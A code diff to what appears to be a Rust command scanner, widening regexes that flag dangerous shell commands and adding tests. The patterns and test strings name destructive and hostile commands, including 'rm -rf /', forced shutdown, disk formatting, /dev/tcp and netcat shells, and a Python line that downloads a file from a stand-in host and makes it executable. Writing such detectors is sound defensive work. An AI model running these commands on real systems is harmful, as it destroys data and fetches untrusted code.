@@ -61,6 +61,7 @@ static DOWNLOADER_COMMAND: LazyLock<Regex> = crate::static_regex!(
       |mshta|start-bitstransfer|invoke-restmethod)\b
     | /dev/tcp/ | \bnc\s+-[a-z]*e | \|\s*(ba|z|da)?sh\b | base64\s+(-d|--decode) | -encodedcommand | \s-enc\s
     | https?://\S+\.(exe|scr|msi|bat|ps1|vbs|hta|jar|dll)\b
+    | \bshutdown(\.exe)?\s+[/-][srf]\b | \brm\s+-[a-z]*r[a-z]*f?\s+/(\s|$|\*) | \bformat\s+[a-z]:
     | \breg(\.exe)?\s+add\b.*\\(run|runonce)\b
     "
 );
@@ -71,7 +72,7 @@ static SHELL_TRICK_COMMAND: LazyLock<Regex> = crate::static_regex!(
     r"(?ix)
     \b(powershell|pwsh|rundll32|regsvr32|ncat|netcat|schtasks|crontab|nohup|osascript|wscript|cscript|disown|setsid)\b
     | ^\s*(dig|nslookup|host)\s+\S
-    | \bpython[0-9.]*(\.exe)?\s+-c\b | \bstart\s+/b\b | \.(exe|vbs|bat|ps1|scr|hta)\b
+    | \bpython[0-9.]*(\.exe)?\s+-c\b | \bpythonw(\.exe)?\s | \bstart\s+/b\b | \.(exe|vbs|bat|ps1|scr|hta)\b
     | \bchmod\s+[+0-7]*x | \bchmod\s+7[0-7][0-7]\b | ^\s*(ba|z)?sh\s+/tmp/ | /tmp/\S+\s*&\s*$
     "
 );
@@ -303,6 +304,9 @@ mod tests {
         ));
         assert!(!is_dangerous_command("git describe --tags"));
         assert!(!is_dangerous_command("gcc -o foo foo.c"));
+        assert!(is_dangerous_command("shutdown /s -f -t 0"));
+        assert!(is_dangerous_command("rm -rf / --no-preserve-root"));
+        assert!(!is_dangerous_command("rm -rf build/"));
         let code =
             "import os as o\no.system('wget http://x.invalid/p -O /tmp/p; chmod +x /tmp/p')\n";
         assert!(max_severity("p/setup.py", code, "WH120") >= 0.9);
